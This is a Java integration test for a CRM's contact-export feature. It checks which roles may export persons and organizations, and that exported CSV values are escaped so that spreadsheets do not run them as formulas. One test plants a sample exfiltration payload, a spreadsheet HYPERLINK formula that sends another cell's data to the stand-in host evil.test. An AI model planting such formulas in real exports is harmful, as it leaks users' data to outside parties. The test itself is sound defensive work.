package org.sencrm.directory;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.util.List;
import java.util.Map;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.sencrm.identity.Role;
import org.sencrm.support.Api;
import org.sencrm.support.IntegrationTest;
import org.sencrm.support.TestWorkspaces;
import org.sencrm.support.WebSession;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * Export is a right of its own (decision 20): administrators and managers by default, other roles
 * when the administrator gives it to them; refused on the API and the web, and no button where
 * it is refused. What goes out cannot become a formula in a spreadsheet.
 */
@IntegrationTest
class ExportRightTest {

	@LocalServerPort
	int port;

	@Autowired
	TestWorkspaces workspaces;

	TestWorkspaces.TestWorkspace workspace;

	@BeforeEach
	void setUp() {
		workspace = workspaces.create();
		api(Role.SALES).post("/api/v1/persons", Map.of("familyName", "Đỗ", "givenName", "An"));
	}

	@Test
	void viewersAndSalesCannotExportByDefaultOnTheApiOrTheWeb() {
		for (var role : List.of(Role.VIEWER, Role.SALES, Role.MARKETING, Role.SUPPORT)) {
			var persons = api(role).get("/api/v1/persons/export");
			var organizations = api(role).get("/api/v1/organizations/export");

			assertThat(persons.status()).as(role.key()).isEqualTo(403);
			assertThat(persons.header("Content-Type")).startsWith("application/problem+json");
			assertThat(persons.body().get("code").asString()).isEqualTo("error.access-denied");
			assertThat(organizations.status()).as(role.key()).isEqualTo(403);
		}
		var viewer = web(Role.VIEWER);
		var refused = viewer.download("/persons/export.csv");
		assertThat(refused.status()).isEqualTo(403);
		assertThat(refused.contentType()).as("the page that says so, not a file").startsWith("text/html");
		assertThat(viewer.download("/organizations/export.csv").status()).isEqualTo(403);
		assertThat(viewer.get("/persons").has("a[href^=/persons/export/choose]")).as("no export button").isFalse();
		assertThat(viewer.get("/organizations").has("a[href^=/organizations/export/choose]")).isFalse();
	}

	@Test
	void administratorsAndManagersExportByDefault() {
		for (var role : List.of(Role.ADMIN, Role.MANAGER)) {
			var csv = api(role).get("/api/v1/persons/export");

			assertThat(csv.status()).as(role.key()).isEqualTo(200);
			assertThat(csv.body().asString()).contains("Đỗ");
			assertThat(api(role).get("/api/v1/organizations/export").status()).isEqualTo(200);
		}
		var manager = web(Role.MANAGER);
		assertThat(manager.get("/persons").has("a[href^=/persons/export/choose]")).isTrue();
		assertThat(manager.getText("/persons/export.csv")).contains("Đỗ");
	}

	@Test
	void theAdministratorGivesAndTakesTheRightOnTheSettingsPage() {
		var admin = web(Role.ADMIN);
		var settings = admin.get("/admin/workspace");
		assertThat(settings.html().select("#export-right input[name=exportRoles][checked]").eachAttr("value"))
				.containsExactlyInAnyOrder("admin", "manager");

		var saved = admin.submitAll(settings, "#export-right form", Map.of("exportRoles", List.of("admin", "sales")));

		assertThat(saved.status()).isEqualTo(302);
		assertThat(api(Role.SALES).get("/api/v1/persons/export").status()).isEqualTo(200);
		assertThat(web(Role.SALES).get("/persons").has("a[href^=/persons/export/choose]")).isTrue();
		assertThat(api(Role.MANAGER).get("/api/v1/persons/export").status()).as("taken from managers").isEqualTo(403);
		assertThat(web(Role.MANAGER).get("/persons").has("a[href^=/persons/export/choose]")).isFalse();
	}

	@Test
	void theRightIsSetThroughTheApiByAdministratorsOnly() {
		var admin = api(Role.ADMIN);
		assertThat(admin.get("/api/v1/workspace/export-roles").body().get("roles").valueStream().map(r -> r.asString()).toList())
				.containsExactlyInAnyOrder("admin", "manager");

		var byManager = api(Role.MANAGER).put("/api/v1/workspace/export-roles", Map.of("roles", List.of("viewer")));
		var unknown = admin.put("/api/v1/workspace/export-roles", Map.of("roles", List.of("pirate")));
		var changed = admin.put("/api/v1/workspace/export-roles", Map.of("roles", List.of("admin", "viewer")));

		assertThat(byManager.status()).isEqualTo(403);
		assertThat(unknown.status()).isEqualTo(422);
		assertThat(unknown.body().get("errors").get(0).get("field").asString()).isEqualTo("exportRoles");
		assertThat(changed.status()).isEqualTo(200);
		assertThat(changed.body().get("roles").valueStream().map(r -> r.asString()).toList()).containsExactly("admin", "viewer");
		assertThat(api(Role.VIEWER).get("/api/v1/persons/export").status()).isEqualTo(200);
		assertThat(api(Role.MANAGER).get("/api/v1/persons/export").status()).isEqualTo(403);
	}

	@Test
	void aNameThatIsAFormulaComesOutAsText() throws Exception {
		var formula = "=HYPERLINK(\"http://evil.test/?\"&D2,\"Open\")";
		api(Role.SALES).post("/api/v1/persons", Map.of("familyName", "-Trần", "givenName", formula,
				"phones", List.of(Map.of("number", "0901234567")), "tags", List.of("@khách")));
		api(Role.SALES).post("/api/v1/organizations", Map.of("name", "+Công ty Công thức"));

		var person = records(api(Role.ADMIN).get("/api/v1/persons/export").body().asString()).stream()
				.filter(r -> r.get("given_name").contains("HYPERLINK")).findFirst().orElseThrow();
		var organization = records(api(Role.ADMIN).get("/api/v1/organizations/export").body().asString()).getFirst();

		assertThat(person.get("given_name")).isEqualTo("'" + formula);
		assertThat(person.get("family_name")).isEqualTo("'-Trần");
		assertThat(person.get("tags")).isEqualTo("'@khách");
		assertThat(person.get("phones")).as("decision 20: phones too").isEqualTo("'+84901234567");
		assertThat(organization.get("name")).isEqualTo("'+Công ty Công thức");
	}

	private static List<CSVRecord> records(String csv) throws java.io.IOException {
		return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
				.parse(new StringReader(csv.replace("\uFEFF", ""))).stream().toList();
	}

	private Api api(Role role) {
		return new Api(port, workspace.member(role).token());
	}

	private WebSession web(Role role) {
		return WebSession.signedIn(port, workspace.member(role).email());
	}
}
